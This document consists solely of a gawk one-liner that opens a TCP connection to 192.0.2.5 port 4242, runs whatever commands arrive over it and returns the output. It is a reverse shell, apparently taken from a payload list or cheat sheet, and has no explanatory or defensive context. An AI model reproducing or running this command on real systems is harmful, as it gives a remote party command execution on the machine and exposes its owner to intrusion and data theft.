gawk 'BEGIN{s="/inet/tcp/0/192.0.2.5/4242";while((s|&getline c)>0){while((c|getline r)>0)print r|&s;close(c)}}'
